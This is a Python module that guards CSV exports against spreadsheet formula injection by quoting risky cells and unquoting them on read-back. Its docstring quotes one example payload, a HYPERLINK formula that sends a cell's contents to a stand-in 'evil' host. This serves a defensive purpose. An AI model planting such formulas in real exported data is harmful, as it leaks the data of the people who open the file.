"""CSV cells a spreadsheet will not execute (formula injection, OWASP's "CSV injection").

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and
some treat a leading tab or carriage return the same way) as a formula: a photo named
``=HYPERLINK("http://evil/?"&A1, "open")`` becomes a live link that leaks the row. Every CSV the
product writes goes through :func:`safe_cell`, which prefixes such a cell with a single quote
(the spreadsheet then shows it as text); :func:`plain_cell` undoes it when the product reads
its own CSV back (``screen --resume``), so the round trip is exact.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator, Mapping, Sequence
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_ESCAPED_STARTS = (*FORMULA_STARTS, "'")  # a leading quote is escaped too: the round trip is exact


def safe_cell(value: Any) -> Any:
    """``value`` unchanged unless it is text a spreadsheet would run: then ``'`` + the text.

    Numbers are left alone (``-0.5`` is data, not a formula). Text that already starts with a
    quote gets one more, so :func:`plain_cell` gives back exactly what was written.
    """
    if isinstance(value, str) and value.startswith(_ESCAPED_STARTS):
        return "'" + value
    return value


def plain_cell(value: str) -> str:
    """The text :func:`safe_cell` was given (for reading the product's own CSV back)."""
    if len(value) > 1 and value[0] == "'" and value[1:].startswith(_ESCAPED_STARTS):
        return value[1:]
    return value


def safe_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """Every cell of a ``DictWriter`` row through :func:`safe_cell`."""
    return {key: safe_cell(value) for key, value in row.items()}


class SafeDictWriter:
    """``csv.DictWriter`` whose every cell (header included) goes through :func:`safe_cell`."""

    def __init__(self, handle: IO[str], fieldnames: Sequence[str]) -> None:
        self._writer = csv.DictWriter(handle, fieldnames=list(fieldnames))
        self.fieldnames = list(fieldnames)

    def writeheader(self) -> None:
        self._writer.writerow({name: safe_cell(name) for name in self.fieldnames})

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def read_plain_rows(handle: Iterable[str]) -> Iterator[dict[str, str]]:
    """``csv.DictReader`` rows with :func:`plain_cell` applied to every cell."""
    for row in csv.DictReader(handle):
        yield {key: plain_cell(value or "") for key, value in row.items()}
